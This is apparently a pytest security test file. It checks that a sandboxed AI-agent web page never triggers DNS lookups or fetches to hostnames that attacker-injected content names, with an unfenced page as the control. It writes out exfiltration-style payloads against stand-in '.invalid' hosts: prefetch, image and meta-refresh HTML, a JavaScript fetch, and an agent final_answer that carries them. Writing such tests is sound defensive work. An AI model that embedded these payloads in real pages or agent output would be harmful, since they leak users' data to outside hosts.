"""Network: a name that is only looked up carries data out, too. Chromium's own log tells of it.

The log has every name that the browser asked for, so that it also sees connections and prefetching
that no server of ours could see.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserType

from support.page.agent_page import AgentPage
from support.page.canary import Canary

from .attacker import Attacker

TEXTS = {
    "prefetch of a page": "<link rel='prefetch' href='http://{name}/'>",
    "picture": "<img src='http://{name}/'>",
    "refresh": "<meta http-equiv='refresh' content='9;url=http://{name}/'><img src='//{name}/'>",
}
"""Each with ``{name}``, which must not be looked up."""

LATER_MS = 1_000
"""Browsers look up names ahead when they have nothing else to do."""

IN_CODE = """
const { fetch } = WorkerGlobalScope.prototype;
await fetch.call(self, `http://${at.name}/`, { mode: "no-cors" });
"""


def name_of(kind: str, what: str) -> str:
    return f"{kind}-{re.sub(r'[^a-z]+', '-', what)}.invalid"


@pytest.fixture(scope="module")
def looked_up(
    browser_type: BrowserType,
    browser_type_launch_args: dict[str, Any],
    site: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> set[str]:
    """The names that a browser looked up: ``fenced-…`` in the page, ``loose-…`` elsewhere."""
    log: Path = tmp_path_factory.mktemp("log") / "net.json"
    arguments = [*browser_type_launch_args["args"], f"--log-net-log={log}"]
    browser = browser_type.launch(**{**browser_type_launch_args, "args": arguments})
    with browser, Canary() as canary:
        with AgentPage(browser.new_page(), site) as agent_page:
            agent_page.open()
            attacker = Attacker(agent_page)
            attacker.by_javascript(IN_CODE, {"name": name_of("fenced", "code")})
            shown = "".join(t.format(name=name_of("fenced", w)) for w, t in TEXTS.items())
            attacker.answer(f"display(HTML({shown!r}))\nfinal_answer({shown!r})")
            agent_page.page.wait_for_timeout(LATER_MS)
        page = browser.new_page()
        page.goto(f"{canary.address}/page.html")
        page.set_content("".join(t.format(name=name_of("loose", w)) for w, t in TEXTS.items()))
        page.wait_for_timeout(LATER_MS)
        page.evaluate("fetch('http://loose-code.invalid/').catch(() => 0)")
        page.close()
    return set(re.findall(r"(?:fenced|loose)-[a-z-]+\.invalid", log.read_text("utf-8")))


@pytest.mark.parametrize("what", ["code", *TEXTS])
def test_name_is_not_looked_up(looked_up: set[str], what: str) -> None:
    assert name_of("loose", what) in looked_up, "the control: without a fence it is"
    assert name_of("fenced", what) not in looked_up
